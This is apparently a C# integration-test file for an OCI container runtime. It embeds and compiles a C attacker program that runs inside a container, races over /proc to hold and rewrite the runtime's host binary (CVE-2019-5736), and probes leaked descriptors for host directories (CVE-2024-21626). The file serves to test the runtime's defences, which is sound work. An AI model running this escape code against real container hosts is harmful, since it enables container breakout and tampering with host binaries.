using System.Diagnostics;

namespace OciRuntime.Tests.Integration.Attacks;

/// <summary>
/// The attacker inside a container: a small static C program, compiled by the test with clang (busybox's shell is
/// too slow to win a race against an exec that lasts a few milliseconds). It spins over /proc/[0-9]*, and for every
/// process other than itself:
///   - reads /proc/N/exe's target and remembers each distinct one (reported at the end);
///   - opens /proc/N/exe read-only and keeps it (CVE-2019-5736: once no process runs that file any more, the kernel
///     lets the kept descriptor be reopened for writing through /proc/self/fd), unless what it opened is one of the
///     container's own programs (/bin/..., /spin). The target is judged on the opened descriptor, not on the earlier
///     readlink: a process that execs between the two must not count as a runtime caught;
///   - counts the opens the kernel refused, by errno and by distinct process (a non-dumpable process, or one whose
///     capabilities the attacker lacks without CAP_SYS_PTRACE, is refused with EACCES): the proof that the attack
///     met the runtime's processes even where it could hold none;
///   - tries every kept descriptor again for O_WRONLY|O_APPEND and, when it opens, appends one byte (an ELF file
///     still runs with a byte appended) and counts a write; refusals are counted by errno (ETXTBSY while a process
///     still runs the file, EACCES where the attacker's ids may not write it, EROFS/EPERM for an image);
///   - looks through each of N's descriptors for a file named HOST-MARKER beside it or one level up
///     (/proc/N/fd/K/HOST-MARKER, /proc/N/fd/K/../*/HOST-MARKER: CVE-2024-21626's leaked directory).
/// It stops when /stop appears and writes /result: "held H", "wrote W", "leaked L", "deniedpids P", then
/// "denied ERRNO COUNT", "wfail ERRNO COUNT", "exe TARGET" (every target read) and "heldexe TARGET" lines.
/// </summary>
internal static class ProcSpinner
{
    private const string Source = """
        #define _GNU_SOURCE
        #include <dirent.h>
        #include <errno.h>
        #include <fcntl.h>
        #include <stdio.h>
        #include <stdlib.h>
        #include <string.h>
        #include <sys/stat.h>
        #include <time.h>
        #include <unistd.h>

        #define MAXHELD 512
        #define MAXSEEN 64
        #define MAXPIDS 8192
        #define MAXERRNO 256
        static int held[MAXHELD], nheld, wrote, leaked, heldTotal;
        static struct stat heldStat[MAXHELD];
        static char seen[MAXSEEN][256], heldSeen[MAXSEEN][256];
        static int nseen, nheldSeen;
        static int deniedPid[MAXPIDS], ndeniedPid;
        static int denied[MAXERRNO], wfail[MAXERRNO];

        static void remember_in(char list[][256], int *n, const char *t) {
            for (int i = 0; i < *n; i++) if (strcmp(list[i], t) == 0) return;
            if (*n < MAXSEEN) { strncpy(list[*n], t, 255); (*n)++; }
        }
        static void remember(const char *t) { remember_in(seen, &nseen, t); }

        static void count(int *by, int e) { by[e > 0 && e < MAXERRNO ? e : 0]++; }

        static void refused(int pid, int e) {
            count(denied, e);
            for (int i = ndeniedPid - 1; i >= 0; i--) if (deniedPid[i] == pid) return;
            if (ndeniedPid < MAXPIDS) deniedPid[ndeniedPid++] = pid;
        }

        static int ours(const char *t) {
            return strncmp(t, "/bin/", 5) == 0 || strcmp(t, "/spin") == 0;
        }

        // One descriptor per file is enough to write it: a second of the same inode is closed, so the spinner never
        // runs out of slots and stops attacking in a long run.
        static void keep(int h) {
            struct stat st;
            if (fstat(h, &st) < 0) { close(h); return; }
            for (int i = 0; i < nheld; i++)
                if (held[i] >= 0 && heldStat[i].st_dev == st.st_dev && heldStat[i].st_ino == st.st_ino) { close(h); return; }
            heldStat[nheld] = st;
            held[nheld++] = h;
        }

        static void try_write_held(void) {
            char p[64];
            for (int i = 0; i < nheld; i++) {
                if (held[i] < 0) continue;
                snprintf(p, sizeof p, "/proc/self/fd/%d", held[i]);
                int w = open(p, O_WRONLY | O_APPEND);
                if (w < 0) count(wfail, errno);
                if (w >= 0) {
                    if (write(w, "", 1) == 1) wrote++;
                    close(w);
                    close(held[i]);
                    held[i] = -1;
                }
            }
        }

        static void try_leak(const char *pid) {
            char dir[64], p[512];
            snprintf(dir, sizeof dir, "/proc/%s/fd", pid);
            DIR *d = opendir(dir);
            if (!d) return;
            struct dirent *e;
            while ((e = readdir(d)) != NULL) {
                if (e->d_name[0] == '.') continue;
                snprintf(p, sizeof p, "%s/%s/HOST-MARKER", dir, e->d_name);
                if (access(p, F_OK) == 0) { leaked++; continue; }
                snprintf(p, sizeof p, "%s/%s/..", dir, e->d_name);
                DIR *up = opendir(p);
                if (!up) continue;
                struct dirent *u;
                while ((u = readdir(up)) != NULL) {
                    char q[1024];
                    if (u->d_name[0] == '.') continue;
                    snprintf(q, sizeof q, "%s/%s/HOST-MARKER", p, u->d_name);
                    if (access(q, F_OK) == 0) { leaked++; break; }
                }
                closedir(up);
            }
            closedir(d);
        }

        int main(int argc, char **argv) {
            int limit = argc > 1 ? atoi(argv[1]) : 300;
            time_t end = time(NULL) + limit;
            char self[32], p[64], t[256];
            snprintf(self, sizeof self, "%d", getpid());
            int fd = open("/ready", O_CREAT | O_WRONLY, 0644);
            if (fd >= 0) close(fd);
            while (access("/stop", F_OK) != 0 && time(NULL) < end) {
                DIR *d = opendir("/proc");
                if (!d) return 2;
                struct dirent *e;
                while ((e = readdir(d)) != NULL) {
                    if (e->d_name[0] < '0' || e->d_name[0] > '9' || strcmp(e->d_name, self) == 0) continue;
                    snprintf(p, sizeof p, "/proc/%s/exe", e->d_name);
                    ssize_t n = readlink(p, t, sizeof t - 1);
                    int why = n > 0 ? 0 : errno;
                    if (n > 0) { t[n] = 0; remember(t); }
                    // ENOENT: gone, a zombie, or a kernel thread; nothing to attack.
                    if ((n > 0 && !ours(t)) || (n <= 0 && why != ENOENT)) {
                        int h = nheld < MAXHELD ? open(p, O_RDONLY | O_CLOEXEC) : -1;
                        if (h < 0 && nheld < MAXHELD && errno != ENOENT) refused(atoi(e->d_name), errno);
                        if (h >= 0) {
                            char q[64], ht[256];
                            snprintf(q, sizeof q, "/proc/self/fd/%d", h);
                            ssize_t m = readlink(q, ht, sizeof ht - 1);
                            if (m > 0) ht[m] = 0; else strcpy(ht, "?");
                            if (ours(ht)) close(h);
                            else {
                                heldTotal++;
                                remember_in(heldSeen, &nheldSeen, ht);
                                keep(h);
                            }
                        }
                    }
                    try_leak(e->d_name);
                }
                closedir(d);
                try_write_held();
            }
            try_write_held();
            FILE *out = fopen("/result.tmp", "w");
            if (!out) return 3;
            fprintf(out, "held %d\nwrote %d\nleaked %d\ndeniedpids %d\n", heldTotal, wrote, leaked, ndeniedPid);
            for (int i = 0; i < MAXERRNO; i++) if (denied[i]) fprintf(out, "denied %s %d\n", strerrorname_np(i) ? strerrorname_np(i) : "E?", denied[i]);
            for (int i = 0; i < MAXERRNO; i++) if (wfail[i]) fprintf(out, "wfail %s %d\n", strerrorname_np(i) ? strerrorname_np(i) : "E?", wfail[i]);
            for (int i = 0; i < nseen; i++) fprintf(out, "exe %s\n", seen[i]);
            for (int i = 0; i < nheldSeen; i++) fprintf(out, "heldexe %s\n", heldSeen[i]);
            fclose(out);
            rename("/result.tmp", "/result");
            return 0;
        }
        """;

    /// <summary>Compiles the spinner into <paramref name="rootfs"/>/spin; null when there is no clang here.</summary>
    public static string? BuildInto(string rootfs)
    {
        string clang = "/usr/bin/clang";
        if (!File.Exists(clang)) return null;
        string src = Path.Join(Path.GetDirectoryName(rootfs)!, "spin.c");
        File.WriteAllText(src, Source);
        var psi = new ProcessStartInfo(clang) { RedirectStandardError = true, RedirectStandardOutput = true };
        foreach (var a in new[] { "-static", "-O2", "-o", Path.Join(rootfs, "spin"), src }) psi.ArgumentList.Add(a);
        using var p = Process.Start(psi)!;
        string err = p.StandardError.ReadToEnd();
        p.WaitForExit();
        if (p.ExitCode != 0) throw new InvalidOperationException("clang spin.c: " + err);
        return Path.Join(rootfs, "spin");
    }

    /// <summary>What the spinner wrote to /result. <paramref name="Held"/> counts every catch of a runtime
    /// process (its exe opened), <paramref name="DeniedPids"/> the distinct processes whose exe the kernel refused;
    /// <paramref name="Denied"/> and <paramref name="WriteFailures"/> count refusals by errno name.</summary>
    public sealed record Report(int Held, int Wrote, int Leaked, IReadOnlyList<string> ExeTargets)
    {
        public int DeniedPids { get; init; }
        public IReadOnlyDictionary<string, int> Denied { get; init; } = new Dictionary<string, int>();
        public IReadOnlyDictionary<string, int> WriteFailures { get; init; } = new Dictionary<string, int>();
        public IReadOnlyList<string> HeldTargets { get; init; } = [];

        public static Report Parse(string text)
        {
            int held = 0, wrote = 0, leaked = 0, deniedPids = 0;
            var exes = new List<string>();
            var heldExes = new List<string>();
            var denied = new Dictionary<string, int>();
            var wfail = new Dictionary<string, int>();
            foreach (var line in text.Split('\n', StringSplitOptions.RemoveEmptyEntries))
            {
                var (key, value) = (line.Split(' ', 2)[0], line.Split(' ', 2).ElementAtOrDefault(1) ?? "");
                switch (key)
                {
                    case "held": held = int.Parse(value); break;
                    case "wrote": wrote = int.Parse(value); break;
                    case "leaked": leaked = int.Parse(value); break;
                    case "deniedpids": deniedPids = int.Parse(value); break;
                    case "denied": AddCount(denied, value); break;
                    case "wfail": AddCount(wfail, value); break;
                    case "exe": exes.Add(value); break;
                    case "heldexe": heldExes.Add(value); break;
                }
            }
            return new Report(held, wrote, leaked, exes) { DeniedPids = deniedPids, Denied = denied, WriteFailures = wfail, HeldTargets = heldExes };
        }

        private static void AddCount(Dictionary<string, int> into, string value)
        {
            var parts = value.Split(' ');
            into[parts[0]] = int.Parse(parts[1]);
        }

        private static string Counts(IReadOnlyDictionary<string, int> c) =>
            c.Count == 0 ? "none" : string.Join(" ", c.Select(kv => $"{kv.Key}×{kv.Value}"));

        public override string ToString() =>
            $"held {Held}, wrote {Wrote}, leaked {Leaked}; exe opens refused for {DeniedPids} processes ({Counts(Denied)}); " +
            $"write reopens refused: {Counts(WriteFailures)}; /proc/N/exe targets seen: {string.Join(", ", ExeTargets)}; " +
            $"held: {string.Join(", ", HeldTargets)}";
    }
}
